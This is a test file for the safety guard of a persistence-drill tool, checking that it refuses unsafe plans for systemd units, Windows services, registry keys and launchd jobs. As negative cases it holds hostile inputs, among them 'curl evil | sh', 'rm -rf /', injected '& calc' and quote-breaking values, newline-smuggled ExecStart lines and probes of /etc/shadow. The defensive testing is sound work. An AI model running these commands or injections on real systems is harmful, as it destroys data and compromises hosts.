import { expect } from 'chai';
import { objections } from '../../../engine/guard/index.ts';
import { dryRun } from '../../../engine/index.ts';
import { makePlan, type Plan } from '../../../engine/plan/plan.ts';
import {
  type Action,
  type Change,
  type HostFacts,
  type Payload,
  type Scenario,
  type Step,
  scenarios,
} from '../../../scenarios/index.ts';
import { accessAudit } from '../../../scenarios/kinds/access-audit.ts';
import { posixAccessProbe, windowsAccessProbe } from '../../../scenarios/kinds/access-probe.ts';
import { file } from '../../../scenarios/kinds/file.ts';
import { fileCopy, leftFile } from '../../../scenarios/kinds/file-copy.ts';
import { fileEdit } from '../../../scenarios/kinds/file-edit.ts';
import { homeFile } from '../../../scenarios/kinds/home-file.ts';
import { initScript } from '../../../scenarios/kinds/init-script.ts';
import { keyProbe } from '../../../scenarios/kinds/key-probe.ts';
import { launchdJob } from '../../../scenarios/kinds/launchd-job.ts';
import { listing } from '../../../scenarios/kinds/listing.ts';
import { registryKey } from '../../../scenarios/kinds/registry-key.ts';
import { serviceProgram } from '../../../scenarios/kinds/service-program.ts';
import { serviceRecovery } from '../../../scenarios/kinds/service-recovery.ts';
import { type SystemdUnit, systemdUnit } from '../../../scenarios/kinds/systemd-unit.ts';
import { transientUnit } from '../../../scenarios/kinds/transient-unit.ts';
import { triggeredUnit } from '../../../scenarios/kinds/triggered-unit.ts';
import { unitDropIn } from '../../../scenarios/kinds/unit-drop-in.ts';
import { type WindowsService, windowsService } from '../../../scenarios/kinds/windows-service.ts';
import { processOfWmi } from '../../../scenarios/kinds/wmi-process.ts';

const marker = 'k3v9q2xw';
const name = `sdrill-${marker}`;
const description = `servicedrill ${marker}`;
const facts = { platform: 'linux', os: 'debian 12', hostname: 'h', tools: {}, actor: 'root' } as const;
const sleeper: Payload = { program: '/bin/sh', args: ['-c', `: ${marker}; sleep 300; :`] };
const idle: Payload = { program: 'C:\\Windows\\System32\\cmd.exe', args: ['/d', '/c', 'rem', marker] };
const services = 'HKLM\\SYSTEM\\CurrentControlSet\\Services';

function planOf(steps: Step | readonly (Step | Change)[], given: HostFacts = facts): Plan {
  const [scenario] = scenarios;
  if (scenario === undefined) throw new Error('no scenario');
  const list = [steps].flat().map((each): Step => ('apply' in each ? { change: each } : each));
  const unsafe: Scenario = { ...scenario, platform: 'linux', steps: () => list, expectations: () => [] };
  return makePlan(unsafe, { marker, facts: given, uniqueNames: false });
}

const run = (program: string, ...args: string[]) => ({ program, args });
const byActor = { name: 'probe', marked: name, as: 'actor' } as const;
const probe = (path: string) => posixAccessProbe({ name: 'probe', path, as: 'actor' });
const windowsProbe = (path: string) => windowsAccessProbe({ name: 'probe', path, marker });
const comment = (path: string) => file({ path, holds: { comment: '#', marker } });
const unit = (part: Partial<SystemdUnit> = {}) =>
  systemdUnit({ name: `${name}.service`, description, payload: sleeper, activate: 'start', ...part });
const service = (part: Partial<WindowsService> = {}) =>
  windowsService({ name, payload: idle, description, marker, ...part });
const copy = (program: string, copyOf: string) => fileCopy({ payload: { program, args: [], copyOf } });
const ownScript = file({ path: `/usr/local/bin/${name}`, holds: { script: sleeper }, mode: '755' });
const own = unit({ activate: 'none', payload: { program: '/bin/true', args: [marker] } });

describe('the guard', () => {
  it('lets harmless, marked changes go', () => {
    expect(objections(planOf([comment(`/tmp/${name}`), unit(), service()]))).to.deep.equal([]);
  });

  const unsafe: readonly [string, readonly Change[], RegExp][] = [
    ['an artefact without the marker', [comment('/tmp/backdoor')], /does not carry the marker/],
    ['the marker in a folder alone', [comment(`/tmp/${name}/x`)], /does not carry the marker/],
    ['a unit of the system', [unit({ name: 'ssh.service' })], /does not carry the marker/],
    ['a file outside of the allowed places', [comment(`/etc/passwd-${marker}`)], /outside/],
    ['a file for cron', [comment(`/etc/cron.d/${name}`)], /outside/],
    [
      'a drop-in beside a unit that was there',
      [comment(`/etc/systemd/system/ssh.service.d/${name}.conf`)],
      /outside/,
    ],
    ['a drop-in of the journal’s', [comment(`/run/systemd/journald.conf.d/${name}.conf`)], /outside/],
    [
      'a file in a folder of keys',
      [homeFile({ home: '/root', directories: ['.ssh'], name, holds: { comment: '#', marker }, marker })],
      /outside/,
    ],
    [
      'a home that is none',
      [homeFile({ home: '/etc', directories: ['cron.d'], name, holds: { comment: '#', marker }, marker })],
      /outside/,
    ],
    ['a path that climbs out', [comment(`/tmp/../etc/${name}`)], /is no absolute path/],
    ['a path of two lines', [comment(`/tmp/${name}\n/etc/passwd`)], /is no absolute path/],
    [
      'a drop-in for a unit that was there',
      [unitDropIn({ unit: 'ssh.service', name, payload: sleeper })],
      /would alter .*ssh.service/,
    ],
    [
      'a change of a file that it did not make',
      [
        fileEdit({
          path: '/etc/crontab',
          before: { comment: '#', marker },
          after: { script: sleeper },
          payload: sleeper,
          restart: `${name}.service`,
        }),
      ],
      /would alter \/etc\/crontab/,
    ],
    [
      'the restart of a unit that was there',
      [
        own,
        fileEdit({
          path: `/etc/systemd/system/${name}.service`,
          before: { comment: '#', marker },
          after: { unit: { description, payload: sleeper } },
          payload: sleeper,
          restart: 'ssh.service',
        }),
      ],
      /would have ssh.service restarted/,
    ],
    [
      'a drop-in for what it makes only itself',
      [unitDropIn({ unit: `${name}.service`, name, payload: sleeper })],
      /would alter/,
    ],
    ['an existing service', [service({ name: 'Spooler' })], /windows-service Spooler does not carry/],
    [
      "an existing service under cover of a tool's name",
      [service({ name: 'Spooler', markerIn: 'description' })],
      /windows-service Spooler does not carry/,
    ],
    [
      "a tool's name without the marker anywhere",
      [
        service({
          name: 'PSEXESVC',
          markerIn: 'description',
          description: 'x',
          marker: 'other',
          start: 'nobody',
          payload: { program: 'C:\\Windows\\System32\\locator.exe', args: ['other'] },
        }),
      ],
      /PSEXESVC does not carry/,
    ],
    [
      "another service's registry key",
      [
        registryKey({
          key: `${services}\\Spooler`,
          values: [{ name: 'Start', type: 'REG_DWORD', data: '3' }],
        }),
      ],
      /does not carry/,
    ],
    [
      'a registry key outside of the services',
      [
        registryKey({
          key: `HKLM\\SOFTWARE\\${name}`,
          values: [{ name: 'Start', type: 'REG_DWORD', data: '3' }],
        }),
      ],
      /is no key of a service/,
    ],
    [
      'a key below its own',
      [
        registryKey({
          key: `${services}\\${name}\\Parameters`,
          values: [{ name: 'Start', type: 'REG_DWORD', data: '3' }],
        }),
      ],
      /is no key of a service/,
    ],
    [
      'a descriptor of its own',
      [
        registryKey({
          key: `${services}\\${name}`,
          values: [{ name: 'Start', type: 'REG_DWORD', data: '3' }],
          descriptor: true,
          by: 'powershell',
        }),
      ],
      /descriptor that only reg.exe writes/,
    ],
    [
      'a start by the boot',
      [
        registryKey({
          key: `${services}\\${name}`,
          values: [{ name: 'Start', type: 'REG_DWORD', data: '2' }],
        }),
      ],
      /values/,
    ],
    [
      'a value of another name',
      [
        registryKey({
          key: `${services}\\${name}`,
          values: [{ name: 'FailureCommand', type: 'REG_SZ', data: 'calc' }],
        }),
      ],
      /values/,
    ],
    [
      'a value spelled otherwise',
      [
        registryKey({
          key: `${services}\\${name}`,
          values: [{ name: 'imagepath', type: 'REG_EXPAND_SZ', data: 'calc.exe' }],
        }),
      ],
      /values/,
    ],
    [
      'a program in the key that is no payload',
      [
        registryKey({
          key: `${services}\\${name}`,
          values: [{ name: 'ImagePath', type: 'REG_EXPAND_SZ', data: 'calc.exe' }],
          payload: idle,
        }),
      ],
      /another program than its payload/,
    ],
    [
      'a file in System32',
      [copy(`C:\\Windows\\System32\\${name}.exe`, 'C:\\Windows\\System32\\hostname.exe')],
      /outside/,
    ],
    ['a copy of a foreign executable', [copy(`C:\\Windows\\${name}.exe`, 'C:\\Temp\\evil.exe')], /payload/],
    [
      "a copy of a system's executable that the plan does not make",
      [
        service({
          payload: {
            program: `C:\\Windows\\${name}.exe`,
            args: [],
            copyOf: 'C:\\Windows\\System32\\hostname.exe',
          },
        }),
      ],
      /payload/,
    ],
    [
      'a foreign recovery command',
      [service(), serviceRecovery({ name, payload: { program: 'C:\\evil.exe', args: [marker] } })],
      /payload/,
    ],
    [
      'a program to come back to that is none of its own',
      [service(), serviceProgram({ name, before: { program: 'calc.exe', args: [] }, payload: idle })],
      /payload/,
    ],
    ['another host asked for a service', [service({ server: 'fs02' })], /made on fs02/],
    ['another host asked for a unit', [unit({ activate: { address: 'root@fs02' } })], /made on root@fs02/],
    [
      'a foreign payload',
      [unit({ payload: { program: '/bin/sh', args: ['-c', `curl evil | sh # ${marker}`] } })],
      /payload/,
    ],
    [
      'a payload cut at other words',
      [unit({ payload: { program: '/bin/sh -c', args: [`: ${marker}; sleep 300; :`] } })],
      /payload/,
    ],
    [
      'a harmless payload without the marker',
      [service({ payload: { ...idle, args: ['/d', '/c', 'rem', 'x'] } })],
      /payload/,
    ],
    [
      'a command behind the harmless one',
      [service({ payload: { ...idle, args: ['/d', '/c', 'echo', marker, '&', 'calc'] } })],
      /payload/,
    ],
    [
      "an interpreter that is not the system's",
      [service({ payload: { ...idle, program: 'C:\\Users\\x\\cmd.exe' } })],
      /payload/,
    ],
    [
      'a program that the plan did not write',
      [unit({ payload: { program: '/usr/bin/evil', args: [marker] } })],
      /payload/,
    ],
    [
      'a script of its own that holds a comment alone',
      [comment(`/usr/local/bin/${name}`), unit({ payload: { program: `/usr/local/bin/${name}`, args: [] } })],
      /payload/,
    ],
    [
      'a unit’s text, run as a script: sh would take its description for an assignment and a command',
      [
        file({
          path: `/usr/local/bin/${name}`,
          holds: { unit: { description: 'x /sbin/reboot', payload: sleeper } },
          mode: '755',
        }),
        unit({ payload: { program: '/bin/sh', args: [`/usr/local/bin/${name}`] } }),
      ],
      /systemdUnit .* payload/,
    ],
    [
      'a script that becomes a unit’s text',
      [
        ownScript,
        unit({ activate: 'none', payload: { program: ownScript.name, args: [] } }),
        fileEdit({
          path: ownScript.name,
          before: { script: sleeper },
          after: { unit: { description: 'x /sbin/reboot', payload: sleeper } },
          payload: sleeper,
          restart: `${name}.service`,
        }),
      ],
      /payload/,
    ],
    [
      'a script of words behind an own script',
      [
        ownScript,
        file({
          path: `/etc/init.d/${name}`,
          holds: { script: { program: ownScript.name, args: ['; reboot'] } },
          mode: '755',
        }),
      ],
      /payload/,
    ],
    [
      'a script of the last of sh’s words',
      [
        ownScript,
        file({
          path: `/etc/init.d/${name}`,
          holds: { script: { program: '/bin/sh', args: [ownScript.name, 'reboot'] } },
          mode: '755',
        }),
      ],
      /payload/,
    ],
    [
      'a launchd script of the last of sh’s words',
      [
        ownScript,
        launchdJob({
          label: name,
          payload: { program: '/bin/sh', args: [ownScript.name, 'reboot'] },
          directory: '/Library/LaunchDaemons',
          domain: 'system',
          start: 'bootstrap',
          script: `/tmp/${name}-script`,
        }),
      ],
      /payload/,
    ],
    [
      'other contents to be put back than the file had',
      [
        own,
        fileEdit({
          path: `/etc/systemd/system/${name}.service`,
          before: { comment: '#', marker },
          after: { unit: { description, payload: sleeper } },
          payload: sleeper,
          restart: `${name}.service`,
        }),
      ],
      /would put back other contents/,
    ],
    [
      'a program in a folder that anybody may make beside that of Windows',
      [service({ payload: { ...idle, program: 'C:\\WinX\\System32\\cmd.exe' } })],
      /payload/,
    ],
    [
      'a program in the folder of another Windows',
      [service({ payload: { ...idle, program: 'D:\\Windows\\System32\\cmd.exe' } })],
      /payload/,
    ],
    ['a file on another drive', [leftFile({ path: `D:\\ProgramData\\${name}` })], /outside/],
    [
      'a foreign script',
      [
        file({
          path: `/usr/local/bin/${name}`,
          holds: { script: { program: '/bin/sh', args: ['-c', 'reboot'] } },
        }),
      ],
      /payload/,
    ],
    [
      'a transient unit that runs something else',
      [
        transientUnit({
          name: `${name}.service`,
          description,
          payload: { program: '/bin/rm', args: ['-rf', '/srv'] },
        }),
      ],
      /payload/,
    ],
    [
      'a job of the system’s',
      [
        launchdJob({
          label: 'com.apple.syslogd',
          payload: sleeper,
          directory: '/Library/LaunchDaemons',
          domain: 'system',
          start: 'bootstrap',
        }),
      ],
      /does not carry/,
    ],
    [
      'a property list elsewhere',
      [
        launchdJob({
          label: name,
          payload: sleeper,
          directory: '/System/Library/LaunchDaemons',
          domain: 'system',
          start: 'bootstrap',
        }),
      ],
      /outside/,
    ],
    [
      'an init script of the system’s',
      [initScript({ name: 'ssh', description, payload: sleeper })],
      /does not carry/,
    ],
    [
      'a path unit that waits for a file of others',
      [triggeredUnit({ name, description, payload: sleeper, trigger: { path: '/etc/shadow' } })],
      /does not carry/,
    ],
  ];
  for (const [what, changes, words] of unsafe) {
    it(`refuses ${what}`, () => {
      expect(objections(planOf(changes)).join('\n')).to.match(words);
    });
  }

  /** What would be more than one word, or another line, somewhere on its way to the host. */
  const texts: readonly [string, string][] = [
    ['a line break', `${name}\n[Service]\nExecStart=/bin/evil`],
    ['a carriage return, at which systemd ends a line as well', `${name}\rExecStart=/bin/evil`],
    ['another separator of lines', `${name}\u2028ExecStart=/bin/evil`],
    ['a NUL', `${name}\0`],
    ['a pattern', `*${marker}*`],
    ['a pattern of one letter', `sdril?-${marker}`],
    ['a set of letters', `sdril[l]-${marker}`],
    ['an instance', `ssh@${marker}`],
    ['an escape', `sdrill\\x2d${marker}`],
    ['an option', `--root=${marker}`],
    ['a blank', `ssh ${marker}`],
    ['a quote', `${name}'; calc; '`],
    ['a variable', `%COMSPEC%${marker}`],
    ['an operator', `${name}&calc`],
    ['a folder', `../ssh-${marker}`],
    ['nothing', ''],
  ];
  const named: readonly [string, (text: string) => Change][] = [
    ['unit', text => unit({ name: `${text}.service` })],
    ['transient unit', text => transientUnit({ name: `${text}.service`, description, payload: sleeper })],
    ['timer', text => triggeredUnit({ name: text, description, payload: sleeper, trigger: 'timer' })],
    ['init script', text => initScript({ name: text, description, payload: sleeper })],
    ['service', text => service({ name: text })],
    [
      'job',
      text =>
        launchdJob({
          label: text,
          payload: sleeper,
          directory: '/Library/LaunchDaemons',
          domain: 'system',
          start: 'bootstrap',
        }),
    ],
  ];
  for (const [what, make] of named)
    for (const [text, value] of texts)
      it(`refuses a ${what} whose name holds ${text}`, () => {
        expect(objections(planOf([make(value)])).join('\n')).to.match(/ is no /);
      });

  for (const value of [
    `${marker}\nExecStart=/bin/evil`,
    `${marker}\r[Install]`,
    `${marker} \\`,
    `${marker} %n`,
    `'${marker}`,
    `$(${marker})`,
  ])
    for (const make of [
      (text: string) => unit({ description: text }),
      (text: string) => service({ description: text, by: 'cmdlet' }),
    ])
      it(`refuses the description ${JSON.stringify(value)} of a ${make('x').kind}`, () => {
        expect(objections(planOf([make(value)])).join('\n')).to.match(/is no one-line description/);
      });

  it('refuses lines of a unit that no drill needs', () => {
    for (const line of ['ExecStartPre=/bin/evil', 'User=root', 'Restart=always\nExecStop=/bin/evil'])
      expect(objections(planOf([unit({ settings: [line] })])).join('\n'), line).to.match(/settings/);
  });

  it('refuses tools in a folder of Windows that is not that of sc.exe', () => {
    const sc = 'C:\\Windows\\System32\\sc.exe';
    for (const reg of ['D:\\Windows\\System32\\reg.exe', 'C:\\WinX\\System32\\reg.exe']) {
      const key = registryKey({
        key: `${services}\\${name}`,
        values: [{ name: 'Start', type: 'REG_DWORD', data: '3' }],
      });
      const tools = { 'sc.exe': sc, 'reg.exe': reg };
      expect(objections(planOf([key], { ...facts, tools })).join('\n')).to.include(`reg.exe is ${reg}`);
    }
  });

  it('refuses a host that would have another asked, though it calls itself so', () => {
    const remote = service({ server: 'fs02' });
    expect(objections(planOf([remote], { ...facts, hostname: 'fs02' })).join('\n')).to.match(/made on fs02/);
    expect(objections(planOf([remote], { ...facts, reachedAs: 'fs02' }))).to.deep.equal([]);
  });

  it('refuses a host whose tools are not the system’s own', () => {
    for (const systemctl of [
      '/tmp/x/systemctl',
      '/usr/bin/../../tmp/systemctl',
      '/usr/bin/evil',
      'systemctl.sh',
    ])
      expect(objections(planOf([unit()], { ...facts, tools: { systemctl } })).join('\n')).to.include(
        `the host's systemctl is ${systemctl}, not the system's own`,
      );
    expect(
      objections(planOf([unit()], { ...facts, tools: { systemctl: '/usr/bin/systemctl' } })),
    ).to.deep.equal([]);
  });

  const looking = listing({ of: 'units', marker });

  it('lets an action go that only looks', () => {
    expect(objections(planOf({ action: looking }))).to.deep.equal([]);
  });

  const spoilt: [string, Partial<Action>, RegExp][] = [
    ['alters something', { command: run('systemctl', 'stop', `ssh ${marker}`) }, /its command is not/],
    ['is another look than it says', { command: run('systemctl', 'list-units', marker) }, /its command/],
    [
      'looks and does more, by a shell of its own',
      { command: run('sh', '-c', `systemctl list-units; rm -rf / # ${marker}`) },
      /its command is not/,
    ],
    ['brings something along', { command: { ...looking.command, stdin: 'text' } }, /its command is not/],
    [
      'looks on another host',
      { command: run('systemctl', 'show', '-H', 'root@fs02', `sdrill-${marker}`) },
      /its command is not/,
    ],
    ['runs on the source host', { command: { ...looking.command, on: 'source' } }, /its command is not/],
    ['runs by another account', { command: { ...looking.command, as: 'observer' } }, /its command is not/],
    ['takes any ending', { command: { ...looking.command, accepts: [1] } }, /its command is not/],
    [
      'runs a program of a tool’s name',
      { command: { ...looking.command, program: '/tmp/x/systemctl' } },
      /its command is not/,
    ],
    ['alters something for its proof', { unchanged: run('rm', '-f', '/etc/passwd') }, /its unchanged is not/],
    [
      'claims the events of others',
      { handles: { ...looking.handles, paths: ['/etc'] } },
      /its handles is not/,
    ],
    ['hides what it opens', { opens: ['/etc/shadow'] }, /its opens is not/],
    ['is of another kind', { kind: 'posixAccessProbe' }, /name /],
    ['is of a kind that there is not', { kind: 'constructor' }, /no kind of action/],
    ['has no specification', { spec: undefined }, /its specification/],
    ['is of another run', listing({ of: 'units', marker: 'other' }), /does not carry the marker/],
  ];
  for (const [what, part, words] of spoilt)
    it(`refuses an action that ${what}`, () => {
      expect(objections(planOf({ action: { ...looking, ...part } })).join('\n')).to.match(words);
    });

  const opening: [string, Action, RegExp][] = [
    ['a file of others', probe(`/etc/shadow-${marker}`), /would open \/etc\/shadow-/],
    ['a FIFO by another spelling', probe(`/etc/../run/${marker}`), /is no absolute path/],
    ['a name of two lines', probe(`/tmp/${name}\r/etc/passwd`), /is no absolute path/],
    ['a file of another system', windowsProbe('C:\\Windows\\System32\\lsass.exe'), /would open/],
    ['a namesake of services.exe', windowsProbe('C:\\WinX\\System32\\services.exe'), /would open/],
    ['another host’s file', windowsProbe('\\\\fs02\\c$\\x'), /is no path on a drive/],
    ['words behind a path', windowsProbe("C:\\x'); calc; ('"), /is no path on a drive/],
    ['the key of a service that was there', keyProbe({ ...byActor, service: 'Spooler' }), /would open HKLM/],
    ['a key above it', keyProbe({ ...byActor, service: '..\\Control' }), /is no plain name/],
    [
      'what an audit would take for a script',
      accessAudit({ name: 'audit', of: { kind: 'units' }, marked: `$(reboot)${marker}`, as: 'actor' }),
      /is no plain name/,
    ],
    [
      'a program for an audit that ends its word',
      accessAudit({
        name: 'audit',
        of: { kind: 'services', own: "C:\\x'; calc; '" },
        marked: name,
        as: 'actor',
      }),
      /is no path on a drive/,
    ],
    ['a process of words', processOfWmi({ name: 'wmi', marker: `${marker}' } ; calc` }), /is no marker/],
  ];
  for (const [what, action, words] of opening)
    it(`refuses an action of the kinds on ${what}`, () => {
      expect(objections(planOf({ action })).join('\n')).to.match(words);
    });

  it('lets a probe open what the plan has made, and not before it is made', () => {
    const change = comment(`/tmp/${name}`);
    const action = probe(change.name);
    expect(objections(planOf([{ change }, { action }]))).to.deep.equal([]);
    expect(objections(planOf([{ action }, { change }])).join('\n')).to.match(/would open/);
  });

  it('objects to no scenario of the catalogue, with names of tools or without', () => {
    for (const scenario of scenarios) {
      const account = { user: 'root', logins: [] };
      const host = {
        name: 'h',
        platform: scenario.platform,
        accounts: { actor: account, observer: account },
      };
      for (const uniqueNames of [true, false]) {
        expect(
          dryRun(scenario, { ...host, dialect: 'posix' }, uniqueNames).objections,
          scenario.id,
        ).to.deep.equal([]);
      }
    }
  });
});
